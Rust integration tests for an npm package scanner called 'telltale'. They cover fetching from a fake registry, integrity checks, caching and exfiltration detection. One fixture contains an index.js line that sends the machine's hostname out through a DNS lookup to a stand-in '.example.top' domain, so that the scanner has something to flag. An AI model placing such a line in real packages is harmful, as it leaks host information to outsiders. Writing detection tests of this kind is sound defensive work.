//! `npm:` targets through a registry served on loopback (hermetic).

use std::process::Command;
use telltale_registry::testing::{sri, FakeRegistry};

/// An npm tarball holding `package/package.json` and `package/index.js`.
fn tarball(index_js: &str) -> Vec<u8> {
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
    for (path, body) in [("package/package.json", r#"{"name":"demo","version":"1.0.0"}"#), ("package/index.js", index_js)] {
        let mut header = tar::Header::new_gnu();
        header.set_size(body.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder.append_data(&mut header, path, body.as_bytes()).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

fn scan(reg: &FakeRegistry, cache: &std::path::Path, args: &[&str]) -> (Option<i32>, serde_json::Value) {
    let out = Command::new(env!("CARGO_BIN_EXE_telltale"))
        .args(["scan", "--format", "json", "--platform", "none", "--registry", &reg.url])
        .args(args)
        .env("TELLTALE_CACHE_DIR", cache)
        .output()
        .unwrap();
    (out.status.code(), serde_json::from_slice(&out.stdout).unwrap())
}

#[test]
fn npm_target_is_fetched_verified_scanned_and_cached() {
    let bad = tarball("require('dns').lookup(require('os').hostname() + '.x.example.top', () => {});");
    let reg = FakeRegistry::new(&[("demo", "1.0.0", &bad, serde_json::json!({}))], &sri);
    let cache = tempfile::tempdir().unwrap();
    let (code, doc) = scan(&reg, cache.path(), &["npm:demo@^1"]);
    assert_eq!(code, Some(1), "{doc}");
    let t = &doc["targets"][0];
    assert_eq!(t["target"], "npm:demo@1.0.0");
    assert!(t["source"].as_str().unwrap().contains("sha512-"), "{t}");
    assert!(t["findings"].as_array().unwrap().iter().any(|f| f["category"] == "exfiltration" && f["file"] == "package/index.js"), "{t}");
    // Offline, from the cache.
    let (code, doc) = scan(&reg, cache.path(), &["--offline", "npm:demo@1.0.0"]);
    assert_eq!(code, Some(1), "{doc}");
    assert!(doc["targets"][0]["source"].as_str().unwrap().contains("from the cache"));
}

#[test]
fn npm_target_with_wrong_integrity_is_an_error() {
    let reg = FakeRegistry::new(&[("demo", "1.0.0", &tarball("module.exports = 1;"), serde_json::json!({}))], &|_| sri(b"something else"));
    let cache = tempfile::tempdir().unwrap();
    let (code, doc) = scan(&reg, cache.path(), &["npm:demo"]);
    assert_eq!(code, Some(2));
    assert!(doc["targets"][0]["error"].as_str().unwrap().contains("integrity check failed"), "{doc}");
}
